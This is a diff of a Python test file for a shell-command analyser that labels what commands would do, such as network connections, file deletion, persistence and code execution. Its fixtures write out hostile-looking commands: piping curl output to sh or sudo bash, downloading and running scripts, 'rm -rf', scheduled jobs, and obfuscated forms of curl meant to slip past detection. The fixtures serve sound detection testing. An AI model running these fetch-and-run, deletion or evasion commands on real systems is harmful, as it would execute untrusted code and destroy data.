@@ -1,20 +1,14 @@
-"""What a command would do is seen, however it is written; what cannot be seen is said to be unknown."""
+"""What a command would do is seen, however it is written."""
 
 import re
 from pathlib import Path
 
 import pytest
-import yaml
-from hypothesis import given
-from hypothesis import strategies as st
 
 from validator.analyse.shell import Use, observe
-from validator.analyse.shell_actions import ACTIONS
 from validator.model.catalog import Catalog
-from validator.model.fact import Kind
-from validator.model.known import UNKNOWN, Choice, Known, Partial, show
-from validator.model.limits import Limits
-from validator.rulebook.catalog import load_catalog, parse_command
+from validator.model.known import show
+from validator.rulebook.catalog import load_catalog
 
 RULES = Path(__file__).parents[2] / "rules"
 CATALOG: Catalog = load_catalog(sorted(RULES.glob("catalog/shell-*.yaml")))
@@ -22,18 +16,10 @@ ROLE = re.compile(r"(\w+)=(.*?)(?=\s\w+=|$)", re.DOTALL)
 CURL = "network.connect curl host=x.example"
 
 
-def uses_of(command: Known, limits: Limits | None = None) -> tuple[Use, ...]:
-    return observe(command, CATALOG, limits or Limits())
-
-
-def capabilities_of(command: Known) -> list[str]:
-    return [use.capability for use in uses_of(command)]
-
-
 def fits(use: Use, expected: str) -> bool:
     """Whether a use is what a line such as `fs.read cat path=/etc/passwd` says; `{…}` is unknown text."""
     head = ROLE.sub("", expected).split()
-    roles = {role: show(value) for role, value in use.roles.items()}
+    roles = {role: show(value).strip() for role, value in use.roles.items()}
     return [use.capability, use.name] == head and all(roles.get(role) == text for role, text in ROLE.findall(expected))
 
 
@@ -133,7 +119,7 @@ SEEN: list[tuple[str, ...]] = [
     (
         "echo 'rm -rf /x' | at now",
         "persist.schedule at",
-        "process.shell at command=rm -rf /x\n",
+        "process.shell at command=rm -rf /x",
         "fs.delete rm path=/x",
     ),
     ("systemctl enable x", "persist.startup systemctl path=x"),
@@ -145,7 +131,7 @@ SEEN: list[tuple[str, ...]] = [
     ("f() { f; }; f", "resource.loop f"),
     # Interpreters.
     ("python3 -c 'import os'", "code.execute python code=import os"),
-    ("python - <<EOF\nimport os\nEOF", "code.execute python code=import os\n"),
+    ("python - <<EOF\nimport os\nEOF", "code.execute python code=import os"),
     ("curl x.example | python3", CURL, "code.execute python code={…}"),
     ("curl x.example | sh", CURL, "process.shell sh command={…}"),
     ("curl x.example | sudo bash -s -- x", "process.shell bash command={…}"),
@@ -155,7 +141,7 @@ SEEN: list[tuple[str, ...]] = [
     ("curl -O http://x.example/a.sh; chmod +x a.sh; ./a.sh", "process.shell sh path=a.sh command={…}"),
     ("wget http://x.example/a.py; python a.py", "code.execute python code={…}"),
     ("echo 'curl x.example' > a.sh; sh ./a.sh", CURL),
-    ("cat <<EOF | bash\nrm -rf /x\nEOF", "process.shell bash command=rm -rf /x\n", "fs.delete rm path=/x"),
+    ("cat <<EOF | bash\nrm -rf /x\nEOF", "process.shell bash command=rm -rf /x", "fs.delete rm path=/x"),
     ("bash script.sh", "process.shell bash path=script.sh command=bash script.sh"),
     ("perl -e 'system(1)'", "unresolved.code perl code=system(1)"),
     ("awk 'BEGIN { system(\"id\") }'", "unresolved.command awk"),
@@ -226,6 +212,9 @@ SEEN: list[tuple[str, ...]] = [
     ("cu$1rl x.example", CURL),
     ("curl${IFS}x.example", CURL),
     ("{curl,x.example}", CURL),
+    ("IFS=,; X=curl,x.example; $X", CURL),
+    ("while IFS= read -r l; do ls; done; X='curl x.example'; $X", CURL),
+    ("X=echo; X='curl x.example' sh -c '$X'", CURL),
     ("c{u..u}rl x.example", CURL),
     ("$(echo curl) x.example", CURL),
     ("`echo curl` x.example", CURL),
@@ -243,143 +232,9 @@ SEEN: list[tuple[str, ...]] = [
     ("(echo curl x.example) | cat | sh", CURL),
 ]
 
-# Commands that do nothing anyone needs to know of.
-SILENT = ["", "  # nothing", "echo hi", "true && false", "printf '%s' a", "cd /tmp", "date", "sleep 1", "X=1; echo $X", "[ 1 = 1 ]",
-          "a=(1 2); echo ${a[0]}", "echo hi > /dev/null 2>&1", "f() { echo $1; }; f x", "X=curl; X=echo; $X hi", "echo '$(id)' '`id`'",
-          "for i in 1 2; do echo $i; done", "echo \\$(id", "seq 3 | sort | uniq -c | wc -l"]  # fmt: skip
-
-# Commands of which something cannot be worked out.
-UNRESOLVED = [
-    "$UNSET x", "/b?n/c?t x", "$(curl x.example) x", "eval \"$(curl x.example)\"", "echo 'open", "echo \"open", "ls )", "ls |", "if ls",
-    "ls ;; ls", "${ curl x.example; }", "$(" * 100 + "ls" + ")" * 100, "{ " * 100 + "ls" + " ;}" * 100, "c=$(cat f); $c",
-    "X=curl; if ls; then X=echo; fi; $X x.example", "while read l; do $l; done < f", "X='a[$(id)]'; echo $((X))", "echo ${X@P}",
-    "sh -c \"ls $X\"", "cu*rl x", "echo x | frobnicate | sh -c \"$(cat)\"", "curl\0 x", "declare -n r=x; $r y",
-]  # fmt: skip
-
 
 @pytest.mark.parametrize(("command", "expected"), [(row[0], row[1:]) for row in SEEN], ids=[row[0] for row in SEEN])
 def test_what_a_command_does_is_seen(command: str, expected: tuple[str, ...]) -> None:
-    uses = uses_of(command)
+    uses = observe(command, CATALOG)
     missing = [text for text in expected if not any(fits(use, text) for use in uses)]
     assert not missing, uses
-
-
-@pytest.mark.parametrize("command", SILENT)
-def test_a_harmless_command_gives_nothing(command: str) -> None:
-    assert uses_of(command) == ()
-
-
-@pytest.mark.parametrize("command", UNRESOLVED, ids=lambda command: command[:40])
-def test_what_cannot_be_worked_out_is_never_silent(command: str) -> None:
-    assert any(use.kind is Kind.UNRESOLVED and use.capability.startswith("unresolved.") for use in uses_of(command))
-
-
-def test_uses_come_in_the_order_of_the_line() -> None:
-    assert capabilities_of("cat a > b; rm c") == ["process.spawn", "fs.read", "fs.write", "process.spawn", "fs.delete"]
-
-
-def test_the_same_use_is_told_once() -> None:
-    assert len(uses_of("uname; uname; uname")) == len(uses_of("uname"))
-
-
-def test_python_in_a_command_is_handed_back_as_code() -> None:
-    assert [use.code for use in uses_of("python -c 'import os'") if use.code] == ["import os"]
-
-
-def test_python_that_is_not_fully_known_is_not_handed_back() -> None:
-    found = [use for use in uses_of('python -c "import $X"') if use.capability == "code.execute"]
-    assert [(use.code, use.roles["code"]) for use in found] == [(None, Partial(("import ", UNKNOWN)))]
-
-
-def test_a_list_of_words_has_no_shell() -> None:
-    assert [show(use.roles["command"]) for use in uses_of(("frobnicate", "$(id)", "a; b"))] == ["frobnicate $(id) a; b"]
-
-
-def test_a_shell_in_a_list_of_words_is_followed() -> None:
-    assert "fs.delete" in capabilities_of(("bash", "-c", "rm -rf /x"))
-
-
-def test_an_unknown_word_keeps_the_program() -> None:
-    assert [(use.capability, use.kind) for use in uses_of(("ls", UNKNOWN))] == [
-        ("process.spawn", Kind.CALL),
-        ("fs.list", Kind.CALL),
-    ]
-
-
-def test_an_unknown_piece_of_a_line_keeps_the_program_and_is_unresolved() -> None:
-    uses = uses_of(Partial(("ls ", UNKNOWN)))
-    assert {(use.capability, use.kind) for use in uses} == {
-        ("unresolved.command", Kind.UNRESOLVED),
-        ("process.spawn", Kind.CALL),
-        ("fs.list", Kind.CALL),
-    }
-
-
-def test_the_host_before_an_unknown_piece_is_kept() -> None:
-    uses = uses_of(("curl", Partial(("https://x.example/", UNKNOWN))))
-    assert [use.roles["host"] for use in uses if use.capability == "network.connect"] == ["x.example"]
-
-
-@pytest.mark.parametrize("command", [UNKNOWN, None, 3, Partial((UNKNOWN,)), (UNKNOWN, "x"), "x" * 200_000])
-def test_an_unknown_command_is_unresolved(command: Known) -> None:
-    assert [use.capability for use in uses_of(command)] == ["unresolved.command"]
-
-
-def test_an_unknown_program_that_may_be_python_is_read_as_python() -> None:
-    assert "package.install" in capabilities_of((UNKNOWN, "-m", "pip", "install", "x"))
-
-
-def test_every_choice_is_followed() -> None:
-    assert {"fs.list", "fs.delete"} <= set(capabilities_of(Choice(("ls", "rm x"))))
-
-
-def test_bytes_are_read_as_text() -> None:
-    assert capabilities_of(b"rm x") == capabilities_of("rm x")
-
-
-def test_shells_inside_shells_are_followed_to_the_limit() -> None:
-    command = "rm x"
-    for _ in range(3):
-        command = f"eval {command}"
-    assert "fs.delete" in capabilities_of(command)
-    assert "unresolved.command" in [use.capability for use in uses_of(command, Limits(nested=1))]
-
-
-@pytest.mark.parametrize(
-    "piece", ["ls;", "ls|", "ls&&", "sudo ", "eval ", "$(", "((", "a[", "`", "{a,", "for a in 1 2 3 4; do "]
-)
-def test_too_much_work_ends_in_a_use(piece: str) -> None:
-    assert uses_of(piece * 9_000 + "ls", Limits(steps=6_000))
-
-
-def test_running_out_of_steps_is_told() -> None:
-    assert "unresolved.budget" in [use.capability for use in uses_of("uname;" * 100, Limits(steps=100))]
-
-
-@given(st.text(max_size=60) | st.text("abcurl $(){}[]<>|&;'\"`\\\n=!#*?,.-/@:~0123%^+", max_size=60))
-def test_no_text_is_too_odd(text: str) -> None:
-    assert all(isinstance(use, Use) for use in uses_of(text))
-
-
-WORDS = "ls $( ) { } ( ; && | if then fi for do done case esac in <<E E > < x X=1 $X \" ' ` [[ ]] (( )) sh -c eval \n".split(
-    " "
-)
-
-
-@given(st.lists(st.sampled_from(WORDS), max_size=25).map(" ".join))
-def test_no_mix_of_words_is_too_odd(text: str) -> None:
-    assert all(isinstance(use, Use) for use in uses_of(text))
-
-
-def test_the_table_speaks_only_of_capabilities_and_actions_there_are() -> None:
-    capabilities = set(yaml.safe_load((RULES / "capabilities.yaml").read_text())) | {None}
-    entries = [entry for group in CATALOG.commands.values() for entry in group]
-    assert [entry for entry in entries if entry.capability not in capabilities] == []
-    assert [entry for entry in entries if entry.action is not None and entry.action not in ACTIONS] == []
-
-
-def test_the_table_is_read_as_documented() -> None:
-    entry = parse_command("cp", "fs.read", "?, -r, sub cmd: *path -/-t | -t=target -S -> !words")
-    assert [(slot.role, slot.rest, slot.unless) for slot in entry.slots] == [("path", True, ()), (None, False, ("-t",))]
-    assert (entry.when, entry.bound, entry.action) == ((("-r",), ("sub", "cmd")), True, "!words")
-    assert dict(entry.options) == {"-t": "target", "-S": None}
